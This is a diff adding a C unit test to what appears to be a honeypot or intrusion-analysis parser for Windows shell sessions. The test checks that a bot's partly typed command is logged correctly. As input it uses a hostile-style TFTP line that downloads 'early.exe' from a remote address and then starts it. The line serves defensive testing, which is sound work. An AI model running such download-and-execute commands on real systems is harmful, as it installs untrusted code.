@@ -193,6 +193,19 @@ static void test_stager_then_banner(void)
 	ws_shell_free(s);
 }
 
+/* A bot typing before the banner arrives: its unfinished line is kept. */
+static void test_typing_before_banner(void)
+{
+	struct ws_shell *s = ws_shell_new();
+	struct log l = {.n = 0};
+
+	feed(s, WS_SIDE_CLIENT, "tftp -i 1.2.3.4 GET early.exe\nstart ear", &l);
+	feed(s, WS_SIDE_SERVER, BANNER, &l);
+	feed(s, WS_SIDE_CLIENT, "ly.exe\n", &l);
+	CHECK(strcmp(l.text, "get early.exe@1.2.3.4; start early.exe") == 0, "%s", l.text);
+	ws_shell_free(s);
+}
+
 /* Lines arrive in any segmentation; set and %var% across lines. */
 static void test_segments_and_env(void)
 {
@@ -471,6 +484,7 @@ int main(void)
 	test_attacker_only();
 	test_binary_undecided();
 	test_stager_then_banner();
+	test_typing_before_banner();
 	test_segments_and_env();
 	test_ftp_fields();
 	test_continuation();
